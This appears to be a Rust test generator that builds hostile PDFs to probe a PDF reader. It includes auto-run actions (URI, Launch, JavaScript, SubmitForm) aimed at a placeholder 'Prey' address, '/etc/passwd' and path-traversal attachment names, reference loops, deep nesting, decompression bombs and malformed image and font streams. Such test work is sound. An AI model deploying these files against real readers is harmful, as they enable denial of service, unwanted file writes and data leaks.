//! PDF: orders to the reader, loops, depth without end, bombs, codings that break their decoders.

use super::Prey;
use flate2::Compression;
use flate2::write::ZlibEncoder;
use std::io::Write;

/// One page; `objects` from number 5.
fn pdf(catalog: &str, page: &str, content: &[u8], objects: &[Vec<u8>]) -> Vec<u8> {
    let mut all = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalog} >>").into_bytes(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R {page} >>")
            .into_bytes(),
        content.to_vec(),
    ];
    all.extend_from_slice(objects);
    let mut bytes = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (nth, object) in all.iter().enumerate() {
        places.push(bytes.len());
        bytes.extend(format!("{} 0 obj\n", nth + 1).bytes());
        bytes.extend(object);
        bytes.extend(b"\nendobj\n");
    }
    let start = bytes.len();
    bytes.extend(format!("xref\n0 {}\n0000000000 65535 f \n", all.len() + 1).bytes());
    places.iter().for_each(|place| bytes.extend(format!("{place:010} 00000 n \n").bytes()));
    let size = all.len() + 1;
    bytes.extend(format!("trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n").bytes());
    bytes
}

fn stream(dictionary: &str, bytes: &[u8]) -> Vec<u8> {
    let mut all = format!("<< {dictionary} /Length {} >>\nstream\n", bytes.len()).into_bytes();
    all.extend(bytes);
    all.extend(b"\nendstream");
    all
}

fn flate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

pub fn all(prey: &Prey) -> Vec<Vec<u8>> {
    [orders(prey), loops(), depths(), bombs(), codings()].concat()
}

/// What a reader is told to do: start, fetch, send, run, write.
fn orders(Prey { address, file }: &Prey) -> Vec<Vec<u8>> {
    let blank = stream("", b"q Q");
    let actions = [
        format!("<< /S /URI /URI (http://{address}/uri) >>"),
        format!("<< /S /Launch /F (/usr/bin/touch) /Unix << /F (/usr/bin/touch {file}) >> >>"),
        format!(
            "<< /S /JavaScript /JS (app.launchURL\\('http://{address}/js'\\); this.saveAs\\('{file}'\\)) >>"
        ),
        format!("<< /S /SubmitForm /F << /FS /URL /F (http://{address}/form) >> >>"),
        format!("<< /S /GoToR /F << /FS /URL /F (http://{address}/go) >> /D [0 /Fit] >>"),
        format!("<< /S /ImportData /F ({file}) >>"),
        format!("<< /S /GoToE /F (http://{address}/inside) /T << /R /C /N (x) >> >>"),
    ];
    let mut all = Vec::new();
    for action in actions {
        all.push(pdf(&format!("/OpenAction {action}"), "", &blank, &[]));
        all.push(pdf("", &format!("/AA << /O {action} >>"), &blank, &[]));
        let link = format!("/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A {action} >>]");
        all.push(pdf("", &link, &blank, &[]));
    }
    // Bytes that lie elsewhere, as content, as a picture, as a whole page.
    for place in
        [format!("({file})"), "(/etc/passwd)".into(), format!("<< /FS /URL /F (http://{address}/f) >>")]
    {
        all.push(pdf("", "", &stream(&format!("/F {place} /FFilter /FlateDecode"), b""), &[]));
        let picture = format!(
            "/Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray /F {place}"
        );
        let page = "/Resources << /XObject << /X 5 0 R >> >>";
        all.push(pdf("", page, &stream("", b"/X Do"), &[stream(&picture, b"")]));
        let form = format!("/Subtype /Form /BBox [0 0 9 9] /Ref << /F {place} /Page 0 >>");
        all.push(pdf("", page, &stream("", b"/X Do"), &[stream(&form, b"")]));
    }
    // Attachments that want to lie somewhere when they are unpacked.
    for name in ["../../../gefangen", "/etc/cron.d/gefangen", "..\\\\..\\\\gefangen", file.as_str()] {
        let names = format!("/Names << /EmbeddedFiles << /Names [({name}) 5 0 R] >> >>");
        let entry = format!("<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 6 0 R >> >>");
        let inside = stream("/Type /EmbeddedFile", b"#!/bin/sh\n");
        all.push(pdf(&names, "", &blank, &[entry.into_bytes(), inside]));
    }
    all
}

/// Things that contain themselves.
fn loops() -> Vec<Vec<u8>> {
    let page = "/Resources << /XObject << /X 5 0 R >> /Pattern << /P 5 0 R >> /Font << /F 5 0 R >> /ColorSpace << /C 5 0 R >> /ExtGState << /G 5 0 R >> /Shading << /S 5 0 R >> >>";
    let inner = "/Resources << /XObject << /X 5 0 R >> /Pattern << /P 5 0 R >> >>";
    let cases: [(&[u8], Vec<u8>); 8] = [
        (b"/X Do", stream(&format!("/Subtype /Form /BBox [0 0 200 100] {inner}"), b"/X Do /X Do /X Do")),
        (
            b"/Pattern cs /P scn 0 0 200 100 re f",
            stream(&format!("/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 {inner}"), b"/Pattern cs /P scn 0 0 1 1 re f"),
        ),
        (
            b"BT /F 12 Tf (A) Tj ET",
            b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 /Widths [9] /Encoding << /Differences [65 /A] >> /CharProcs << /A 4 0 R >> /Resources << /Font << /F 5 0 R >> >> >>".to_vec(),
        ),
        (b"/C cs 0 sc 0 0 9 9 re f", b"[/Indexed 5 0 R 255 5 0 R]".to_vec()),
        (b"/C cs 0 sc 0 0 9 9 re f", b"[/Separation /A 5 0 R << /FunctionType 3 /Domain [0 1] /Functions [5 0 R 5 0 R] >>]".to_vec()),
        (b"/G gs /X Do", b"<< /Type /ExtGState /SMask << /S /Luminosity /G 5 0 R >> /Font [5 0 R 1] >>".to_vec()),
        (b"/S sh", b"<< /ShadingType 5 0 R /ColorSpace 5 0 R /Function 5 0 R >>".to_vec()),
        (b"q Q", b"5 0 R".to_vec()),
    ];
    let mut all: Vec<_> =
        cases.into_iter().map(|(content, object)| pdf("", page, &stream("", content), &[object])).collect();
    let blank = stream("", b"q Q");
    all.push(pdf("", "/Contents [5 0 R 5 0 R]", &blank, &[b"[5 0 R 5 0 R 4 0 R]".to_vec()]));
    all.push(pdf(
        "/Outlines 5 0 R",
        "",
        &blank,
        &[b"<< /First 5 0 R /Last 5 0 R /Next 5 0 R /Prev 5 0 R >>".to_vec()],
    ));
    // Pages that are their own parents; a length that is itself; tables of places that follow each other.
    let text = String::from_utf8(pdf("", "", &blank, &[])).unwrap();
    for (from, to) in [
        ("/Kids [3 0 R] /Count 1", "/Kids [2 0 R 2 0 R] /Count 9"),
        ("/Kids [3 0 R] /Count 1", "/Kids [3 0 R 3 0 R 3 0 R] /Count 2147483647"),
        ("/Kids [3 0 R] /Count 1", "/Kids 2 0 R /Count -1"),
        ("/Type /Page ", "/Type /Pages /Kids [2 0 R] "),
        ("/Length 3", "/Length 4 0 R"),
        ("/Length 3", "/Length 99999999999"),
        ("/Root 1 0 R", "/Root 1 0 R /Prev 9"),
        ("/Root 1 0 R", "/Root 9 0 R"),
        ("xref\n0 5", "xref\n0 4294967295"),
        ("/Size 5", "/Size 2147483647"),
        ("/MediaBox [0 0 200 100]", "/MediaBox [0 0 1e12 1e12]"),
        ("/MediaBox [0 0 200 100]", "/MediaBox [0 0 14400 14400] /UserUnit 75000"),
        ("/MediaBox [0 0 200 100]", "/MediaBox [0 0 -1 0]"),
        ("/MediaBox [0 0 200 100]", "/Rotate 2147483647"),
        ("/Root 1 0 R", "/Root 1 0 R /Encrypt << /Filter /Standard /V 5 /R 6 /O () /U () /P -1 >>"),
    ] {
        assert!(text.contains(from));
        all.push(text.replacen(from, to, 1).into_bytes());
    }
    all
}

/// Nesting that no stack holds, and content that never ends.
fn depths() -> Vec<Vec<u8>> {
    const DEEP: usize = 200_000;
    let blank = stream("", b"q Q");
    let nested = |open: &str, close: &str| [open.repeat(DEEP), close.repeat(DEEP)].concat();
    let (lists, tables) = (nested("[", "]"), nested("<</A", ">>"));
    vec![
        pdf(&format!("/X {lists}"), "", &blank, &[]),
        pdf(&format!("/X {tables}"), "", &blank, &[]),
        pdf(&format!("/X {}", nested("(", ")")), "", &blank, &[]),
        pdf(&format!("/X {}", "[".repeat(DEEP)), "", &blank, &[]),
        pdf("", "", &stream("", lists.as_bytes()), &[]),
        pdf("", "", &stream("", "q ".repeat(DEEP).as_bytes()), &[]),
        pdf("", "", &stream("", "/A BMC ".repeat(DEEP).as_bytes()), &[]),
        pdf("", "", &stream("", "0 0 9 9 re W n ".repeat(DEEP).as_bytes()), &[]),
        pdf(
            "",
            "",
            &stream("", "BI /W 9999999 /H 9999999 /BPC 8 /CS /G ID x EI ".repeat(99).as_bytes()),
            &[],
        ),
    ]
}

/// Little that becomes much.
fn bombs() -> Vec<Vec<u8>> {
    let zeros = flate(&vec![0; 64 << 20]);
    let blanks = flate(&b"q 1 0 0 1 0 0 cm Q\n".repeat(1 << 20));
    let picture = |width: u32, height: u32, filter: &str, bytes: &[u8]| {
        let dictionary = format!(
            "/Subtype /Image /Width {width} /Height {height} /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter {filter}"
        );
        let draw = stream("", b"200 0 0 100 0 0 cm /X Do");
        pdf("", "/Resources << /XObject << /X 5 0 R >> >>", &draw, &[stream(&dictionary, bytes)])
    };
    vec![
        pdf("", "", &stream("/Filter /FlateDecode", &zeros), &[]),
        pdf("", "", &stream("/Filter /FlateDecode", &blanks), &[]),
        pdf("", "", &stream("/Filter [/FlateDecode /FlateDecode]", &flate(&zeros)), &[]),
        pdf(
            "",
            "",
            &stream(&format!("/Filter [{}]", "/ASCIIHexDecode ".repeat(5000)), &b"20".repeat(5000)),
            &[],
        ),
        pdf("", "", &stream("/Filter /RunLengthDecode", &[129, 0].repeat(1 << 20)), &[]),
        picture(60_000, 60_000, "/FlateDecode", &zeros),
        picture(4_000_000_000, 1, "/FlateDecode", &zeros),
        picture(30_000, 30_000, "[/FlateDecode /FlateDecode]", &flate(&zeros)),
        picture(20_000, 20_000, "/RunLengthDecode", &[129, 0].repeat(1 << 20)),
        picture(20_000, 20_000, "/LZWDecode", &[0x80, 0x0b, 0x60].repeat(1 << 16)),
    ]
}

/// Pictures and fonts whose bytes are none.
fn codings() -> Vec<Vec<u8>> {
    let garbage: Vec<u8> = (0..4096u32).map(|n| (n * n * 31 % 253) as u8).collect();
    let mut all = Vec::new();
    for (filter, head) in [
        ("/DCTDecode", &b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01\x22\0"[..]),
        ("/JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n\xff\x4f\xff\x51\0\x2f"),
        ("/JBIG2Decode", b"\0\0\0\0\x30\0\x01\0\0\0\x13\xff\xff\xff\xff\xff\xff\xff\xff"),
        ("/CCITTFaxDecode /DecodeParms << /K -1 /Columns 2147483647 /Rows 2147483647 >>", b"\0\x01"),
        ("/CCITTFaxDecode /DecodeParms << /K 4 /Columns 0 >>", b"\0\x01"),
        ("/FlateDecode /DecodeParms << /Predictor 15 /Colors 2147483647 /Columns 2147483647 >>", b"x\x9c"),
        ("/LZWDecode /DecodeParms << /EarlyChange 9 >>", b"\x80"),
    ] {
        for (width, height) in [(8, 8), (0, 0), (2_147_483_647, 2)] {
            let dictionary = format!(
                "/Subtype /Image /Width {width} /Height {height} /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter {filter}"
            );
            let bytes = [head, &garbage].concat();
            all.push(pdf(
                "",
                "/Resources << /XObject << /X 5 0 R >> >>",
                &stream("", b"/X Do"),
                &[stream(&dictionary, &bytes)],
            ));
        }
    }
    for (kind, key) in [("/Type1", "/FontFile"), ("/TrueType", "/FontFile2"), ("/Type1", "/FontFile3")] {
        let font = format!(
            "<< /Type /Font /Subtype {kind} /BaseFont /A /FontDescriptor << /FontName /A {key} 6 0 R >> >>"
        );
        let objects = [font.into_bytes(), stream("/Subtype /Type1C", &garbage)];
        all.push(pdf(
            "",
            "/Resources << /Font << /F 5 0 R >> >>",
            &stream("", b"BT /F 12 Tf (AAA) Tj ET"),
            &objects,
        ));
    }
    all
}
